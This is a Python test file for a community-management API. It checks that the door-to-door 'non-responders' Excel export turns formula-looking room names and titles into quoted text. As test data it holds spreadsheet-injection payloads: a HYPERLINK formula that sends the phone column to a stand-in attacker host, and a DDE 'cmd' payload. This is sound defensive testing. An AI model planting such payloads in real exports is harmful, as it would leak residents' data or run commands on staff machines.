"""The door-to-door sheet (``non-responders?format=xlsx``) with room names and titles that look like
formulas: each comes out as quoted text, never a live formula; areas stay numbers."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from tests.factories import import_csv
from tests.surveys.helpers import make_project, make_questionnaire
from tests.voting.helpers import setup_motion

API = "/api/v1"
# the HYPERLINK that sends column E (the phone) away, shortened to the 30 characters a room holds
LEAK = '=HYPERLINK("//ev.il/"&E5,"核对")'
ROOMS = [LEAK, "=cmd|' /C calc'!A0", "-5", "@SUM(A1:A9)"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


async def import_hostile_rooms(client, world) -> None:
    lines = ["building,unit,room,area_m2"] + [f"3,1,{csv_field(room)},{50 + i}.25" for i, room in enumerate(ROOMS)]
    r = await import_csv(client, world.staff, world.community_id, "\n".join(lines) + "\n")
    assert r.status_code == 200, r.text


def assert_no_live_cell(content: bytes) -> tuple[list, list[list]]:
    """The sheet's cells: none a formula, no text starting with a formula character; (title row, body rows)."""
    ws = load_workbook(io.BytesIO(content))["入户走访"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
    body = [[c for c in row] for row in ws.iter_rows(min_row=4)]
    return [c.value for c in ws[1]], body


async def test_hostile_room_names_in_the_questionnaire_sheet(client, world) -> None:
    await import_hostile_rooms(client, world)
    pid = await make_project(client, world)
    q = await make_questionnaire(client, world, pid, title="\t=1+2")
    r = await client.get(f"{API}/questionnaires/{q['id']}/non-responders", headers=world.staff,
                         params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    assert r.headers["cache-control"] == "no-store" and r.headers["content-disposition"].startswith("attachment;")
    title, body = assert_no_live_cell(r.content)
    assert title[0] == "'\t=1+2 — 入户走访表（未填写问卷住户）"
    building3 = {row[2].value: row for row in body if row[0].value == "3"}
    assert set(building3) == {"'" + room for room in ROOMS}
    leak = building3["'" + LEAK]
    assert leak[2].data_type == "s" and leak[3].value == 50.25 and leak[3].data_type == "n"
    assert building3["'-5"][3].value == 52.25  # the text "-5" is neutralised, the area next to it a number


async def test_formula_motion_title_in_the_motion_sheet(client, world, clock) -> None:
    await import_hostile_rooms(client, world)
    _, _, m = await setup_motion(client, world, clock.now(), title="=cmd|' /C calc'!A0")
    r = await client.get(f"{API}/motions/{m['id']}/non-responders", headers=world.staff, params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    title, body = assert_no_live_cell(r.content)
    assert title[0] == "'=cmd|' /C calc'!A0 — 入户走访表（未表决住户）"
    assert "'" + LEAK in {row[2].value for row in body}
